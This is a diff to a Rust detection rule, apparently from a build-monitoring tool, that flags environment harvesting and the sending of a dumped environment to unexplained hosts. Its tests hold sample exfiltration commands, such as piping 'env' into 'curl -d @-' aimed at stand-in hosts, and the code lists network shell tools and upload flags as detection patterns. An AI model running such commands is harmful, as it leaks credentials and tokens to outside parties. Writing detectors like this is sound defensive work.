@@ -2,7 +2,9 @@
 //!
 //! ## What it sees
 //! `/proc/PID/environ` of a process that the reader did not start: once with a note, three of them in one strand as a sweep, and
-//! one outside the job at once. Process lists (`ps`, `top`) may look when the project or the step's text calls them.
+//! one outside the job at once. Process lists (`ps`, `top`) may look when the project or the step's text calls them. The whole of
+//! the own environment, printed by `env` or read from `/proc/self/environ`, when what stands beside it then sends something to a
+//! destination that nothing explains.
 //!
 //! ## Why it matters
 //! Tokens that a step was not given stand in the environment of the runner, of other steps and of agents.
@@ -12,14 +14,17 @@
 //! the environment.
 //!
 //! ## Known limits
-//! A process's own environment is not a read: a program that sends its own variables away is seen as a connection only.
+//! What a program has in its own memory is not a read: one that sends its own variables away is seen as a connection only.
 
 use std::collections::BTreeSet;
 
-use super::{Act, Detection, Ground, Hit, attack, ground, is_work, named, of_process};
+use super::{
+    Act, Detection, Ground, Hit, attack, ground, is_bare, is_bare_object, is_work, named, of_process,
+};
 use crate::divergence::Effect;
 use crate::event::Activity;
 use crate::finding::{Confidence, RuleId, Severity, Technique};
+use crate::lineage::{Process, Touch};
 
 pub const DETECTION: Detection = Detection {
     id: RuleId("env-harvest"),
@@ -36,10 +41,48 @@ pub const DETECTION: Detection = Detection {
 /// Environments one strand may read before the sweep itself is the finding.
 const SWEEP: usize = 3;
 
+/// How long after the environment was printed something counts as beside it.
+const BESIDE_NS: u64 = 10_000_000_000;
+/// Words by which a transfer tool is told to send something.
+const UPLOADS: &[&str] =
+    &["-d", "--data", "-F", "--form", "-T", "--upload-file", "--json", "--post-", "--body-", "--url-query"];
+
+/// The environment that was printed or read beside this process, which connects to what nothing explains.
+pub(super) fn dumped<'a>(act: &'a Act<'_>) -> Option<&'a Touch> {
+    let strand = act.lineage.strand(act.process.key);
+    let own = act.process;
+    let parents = |process: &Process| {
+        let mut above = act.lineage.ancestors(process.key).map(|above| above.key);
+        [process.parent, above.nth(1)]
+    };
+    // A pipe's two ends have one parent, or a subshell between.
+    let is_beside = |note: &&Touch| {
+        let near = act.time.0.saturating_sub(note.time.0) <= BESIDE_NS;
+        let kin = act.lineage.get(note.process).is_some_and(|printer| {
+            parents(printer).iter().flatten().any(|parent| parents(own).contains(&Some(*parent)))
+        });
+        near && note.process != own.key && kin
+    };
+    let is_upload = || {
+        let is_sender =
+            matches!(own.name.as_ref(), "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl");
+        let words = own.launch.as_deref().map_or(&[][..], |launch| &launch.arguments);
+        is_sender || words.iter().skip(1).any(|word| UPLOADS.iter().any(|upload| word.starts_with(upload)))
+    };
+    let printed = strand.noted("environment").find(is_beside).filter(|_| is_bare(act) || is_upload());
+    printed.or_else(|| strand.noted("environment-file").next())
+}
+
 fn check(act: &Act<'_>) -> Vec<Hit> {
+    if matches!(act.effect, Effect::Connect { .. }) {
+        return sent(act);
+    }
     let (Effect::Other, Activity::Open { file, .. }) = (act.effect, act.activity) else { return Vec::new() };
     let Some((pid, "environ")) = of_process(&file.path) else { return Vec::new() };
     let own = act.process.key;
+    if pid == own.pid {
+        return taken(act);
+    }
     let is_own = |pid: u32| {
         pid == own.pid
             || act.lineage.numbered(pid).is_some_and(|victim| act.lineage.is_at_or_below(victim.key, own))
@@ -74,6 +117,38 @@ fn check(act: &Act<'_>) -> Vec<Hit> {
     attack(act, &DETECTION, weight, title, &file.path)
 }
 
+/// The own environment is read by a process that is connected to what nothing explains.
+fn taken(act: &Act<'_>) -> Vec<Hit> {
+    let own = act.process.key;
+    let contacts = &act.lineage.strand(own).contacts;
+    let Some(contact) =
+        contacts.iter().find(|contact| contact.process == own && is_bare_object(&contact.object))
+    else {
+        return Vec::new();
+    };
+    let title =
+        format!("{} read the whole environment, connected to {}", named(act.lineage, own), contact.object);
+    let mut hits = attack(act, &DETECTION, (Severity::High, Confidence::High), title, &contact.object);
+    hits[0].evidence.push(contact.sequence);
+    hits
+}
+
+fn sent(act: &Act<'_>) -> Vec<Hit> {
+    let Effect::Connect { object, .. } = act.effect else { return Vec::new() };
+    if !act.explanation.is_undeclared() {
+        return Vec::new();
+    }
+    let Some(note) = dumped(act) else { return Vec::new() };
+    let title = format!(
+        "{} put out the whole environment, and {} connected to {object}",
+        named(act.lineage, note.process),
+        named(act.lineage, act.process.key)
+    );
+    let mut hits = attack(act, &DETECTION, (Severity::High, Confidence::High), title, object);
+    hits[0].evidence.push(note.sequence);
+    hits
+}
+
 #[cfg(test)]
 mod tests {
     use crate::trace::{expect, findings};
@@ -93,6 +168,40 @@ mod tests {
         assert!(findings("apt-get install -y tool\n", "", &trace(needrestart)).is_empty());
         let borrowed = findings("apt-get install -y tool\n", "", &trace("/w/needrestart needrestart"));
         assert!(borrowed.iter().any(|finding| finding.starts_with("!env-harvest attack high")));
+    }
+
+    #[test]
+    fn the_own_environment_printed_into_a_connection() {
+        for acts in [
+            "3 > 4 launch /usr/bin/env env\n3 > 5 launch /usr/bin/curl curl --data-binary @- http://203.0.113.7/\n5 connect 203.0.113.7:80",
+            "3 > 4 launch /usr/bin/printenv printenv\n3 > 5 launch /usr/bin/python3.11 python3 x.py\n5 connect 203.0.113.7:80",
+            "3 > 4 launch /usr/bin/cat cat /proc/self/environ\n4 read /proc/4/environ\n3 > 5 launch /usr/bin/curl curl x\n5 connect 203.0.113.7:80",
+        ] {
+            expect(
+                "make\n",
+                &format!("1 > 2 launch /usr/bin/make make\n2 > 3 launch /usr/bin/dash sh x.sh\n{acts}"),
+                &["!egress-undeclared attack high 203.0.113.7:80", "!env-harvest attack high 203.0.113.7:80"],
+            );
+        }
+    }
+
+    #[test]
+    fn a_printed_environment_before_a_download_stays_quiet() {
+        expect(
+            "make\nenv | curl -d @- https://a.example/x\n",
+            "answer cdn.example 203.0.113.2
+             answer a.example 203.0.113.3
+             1 > 2 launch /usr/bin/make make
+             2 > 3 launch /usr/bin/dash sh x.sh
+             3 > 4 launch /usr/bin/env env
+             3 > 5 launch /usr/bin/curl curl -fsSL https://cdn.example/x
+             5 connect 203.0.113.2:443
+             3 > 6 launch /usr/bin/env env -i make
+             1 > 7 launch /usr/bin/env env
+             1 > 8 launch /usr/bin/curl curl -d @- https://a.example/x
+             8 connect 203.0.113.3:443",
+            &["egress-undeclared divergence low cdn.example:443"],
+        );
     }
 
     #[test]
